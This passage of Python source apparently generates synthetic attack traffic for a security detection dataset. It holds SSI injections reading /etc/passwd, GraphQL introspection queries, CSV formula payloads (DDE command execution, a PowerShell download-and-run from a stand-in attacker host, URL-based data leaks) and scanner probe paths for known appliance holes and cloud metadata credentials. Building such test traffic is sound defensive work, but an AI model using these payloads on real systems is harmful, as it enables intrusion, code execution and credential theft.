        '<!--#include virtual="/etc/passwd" -->', '<!--#echo var="DOCUMENT_ROOT" -->', "<!--#printenv -->", '<!--#include file="../../web.config" -->',
        '<!--#exec cgi="/cgi-bin/printenv.pl" -->'))),
    # GraphQL: schema introspection (also split by a newline past filters), field suggestions, and abuse of aliases,
    # batching, depth and directives to brute-force logins and one-time codes or exhaust the server
    Production("unseen-injections.graphql.introspection", "other", lambda r: r.choice((
        "{__schema{queryType{name}mutationType{name}types{name kind fields{name args{name}}}}}",
        "query IntrospectionQuery{__schema{directives{name locations args{name}}}}",
        f'{{__type(name:"{r.choice(("User", "Admin", "Query", "Mutation", "Order"))}"){{name fields{{name type{{name kind ofType{{name}}}}}}}}}}',
        "query{__schema\n{types{name}}}", "{__typename a:__schema{queryType{name}}}")), ("query", "json", "form")),
    Production("unseen-injections.graphql.abuse", "other", _graphql_abuse, ("query", "json", "form")),
    # Spreadsheet formulas in a field an export writes to CSV: DDE command execution and data leaks by URL
    Production("unseen-injections.csv.formula", "other", lambda r: r.choice((
        "=cmd|' /C calc'!A0", f'=HYPERLINK("http://{attacks._host(r)}/?leak="&A1&B1,"Click to view")', "@SUM(1+9)*cmd|' /C calc'!A0",
        f'=IMPORTXML(CONCAT("http://{attacks._host(r)}/?d=",CONCATENATE(A1:C3)),"//a")', f"=cmd|' /c powershell -w hidden -c iwr http://{attacks._host(r)}/p.ps1|iex'!A0",
        "-2+3+cmd|' /C notepad'!A0", f'=WEBSERVICE("http://{attacks._host(r)}/"&A2)', '=DDE("cmd";"/C calc";"!A0")')), ("query", "form", "json")),
)

# ---------------------------------------------------------------------------- probes
#
# What scanners hunt that neither the sides' families nor the unseen-releases split's name: other edge and VPN appliances'
# published holes, other CI/CD servers, other databases' web consoles, other cameras and routers, reverse proxies that
# reach the cloud metadata service, backup files of other software, and other stacks' development endpoints.
PROBE_PATHS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("unseen-injections.appliances", ("/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
                          "/+CSCOE+/saml/sp/acs?tgname=a", "/%2577eb%2575i_%2577sma_Http",
                          "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "/mgmt/shared/authn/login",
                          "/vpn/../vpns/portal/scripts/newbm.pl", "/ztp/cgi-bin/handler", "/webauth_operation.php", "/cgi-mod/index.cgi",
                          "/webconsole/Controller", "/global-protect/getconfig.esp", "/php/ztp_gate.php/.js.map",
                          "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi", "/cgi-bin/jarrewrite.sh", "/api/sonicos/auth",
                          "/mifs/rs/api/v2/featureusage", "/dana-na/auth/url_admin/welcome.cgi")),
    ("unseen-injections.cicd", ("/go/add-on/business-continuity/api/plugin?folderName=&pluginName=../../../etc/passwd", "/app/rest/users/id:1/tokens/RPC2",
                    "/hax?jsp=/app/rest/server;.jsp", "/cli?remoting=false", "/whoAmI/api/json", "/rundeck/api/14/system/info", "/_apis/connectionData",
                    "/rest/api/1.0/repos?limit=1000", "/apis/tekton.dev/v1/pipelineruns", "/service/rest/swagger.json", "/artifactory/api/system/version",
                    "/api/v1/workflows/argo", "/.woodpecker.yml", "/azure-pipelines.yml", "/.buildkite/pipeline.yml", "/cloudbuild.yaml",
                    "/codemagic.yaml", "/appveyor.yml")),
    ("unseen-injections.db_consoles", ("/pgadmin4/login", "/pgadmin4/misc/ping", "/db/neo4j/tx/commit", "/db/data/", "/api/v2/setup", "/play?user=default",
                           "/_dashboards/api/status", "/_db/_system/_admin/aardvark/index.html", "/h2-console/", "/h2-console/login.do?jsessionid=",
                           "/_status/vars", "/pools/default/buckets", "/apex/f?p=4550:1", "/redis-commander/", "/phpredisadmin/", "/phpliteadmin.php")),
    ("unseen-injections.iot", ("/cgi-bin/api.cgi?cmd=GetDevInfo", "/LAPI/V1.0/System/DeviceInfo", "/queryDevInfo", "/goform/telnet", "/cgi-bin/cstecgi.cgi",
                   "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=", "/getcfg.php", "/cgi-bin/nobody/Machine.cgi?action=get_capability",
                   "/cgi-bin/user/Config.cgi?.cab&action=get&category=Account.*", "/boaform/admin/formTracert", "/appGet.cgi?hook=get_cfg_clientlist()",
                   "/web_shell_cmd.gch", "/PSIA/Custom/SelfExt/userCheck", "/axis-cgi/param.cgi?action=list", "/cgi-bin/viewer/video.jpg")),
    ("unseen-injections.metadata_proxy", ("/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/computeMetadata/v1/project/project-id",
                              "/metadata/instance?api-version=2021-12-13", "/openstack/latest/meta_data.json", "/opc/v2/instance/", "/metadata/v1/id",
                              "/hetzner/v1/metadata", "/proxy/http://169.254.169.254/latest/meta-data/", "/?url=http://169.254.169.254/latest/meta-data/",
                              "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "/api/proxy?url=http://metadata.google.internal/computeMetadata/v1/",
                              "/image-proxy/?url=http://127.0.0.1:8500/v1/agent/self", "/webhook-test?target=http://169.254.170.2/v2/credentials")),
    ("unseen-injections.dumps", ("/wp-content/ai1wm-backups/", "/wp-content/updraft/", "/wp-content/backups-dup-lite/", "/dump.sql", "/prod.sql.gz",
                     "/database_backup.sql.bz2", "/site-backup.zip", "/db.sqlite3", "/database/database.sqlite", "/storage/database.sqlite",
                     "/instance/app.db", "/backup/latest.tar.zst", "/gitlab-backup.tar", "/jenkins_home.tar.gz", "/mongodump.tar.gz", "/export.sql",
                     "/pg_dump.sql", "/shop.example.com.zip", "/backup.7z", "/www.rar")),
    ("unseen-injections.dev_endpoints", ("/dev/dashboard/home", "/phoenix/live_reload/frame", "/q/dev-ui/", "/q/openapi", "/swagger/v1/swagger.json",
                             "/actuator/logfile", "/actuator/scheduledtasks", "/actuator/flyway", "/actuator/caches", "/rails/mailers",
                             "/rails/conductor/action_mailbox/inbound_emails", "/letter_opener", "/pulse", "/___graphql", "/_next/webpack-hmr",
                             "/webpack-dev-server", "/openapi.json", "/redoc", "/livereload.js")),
)
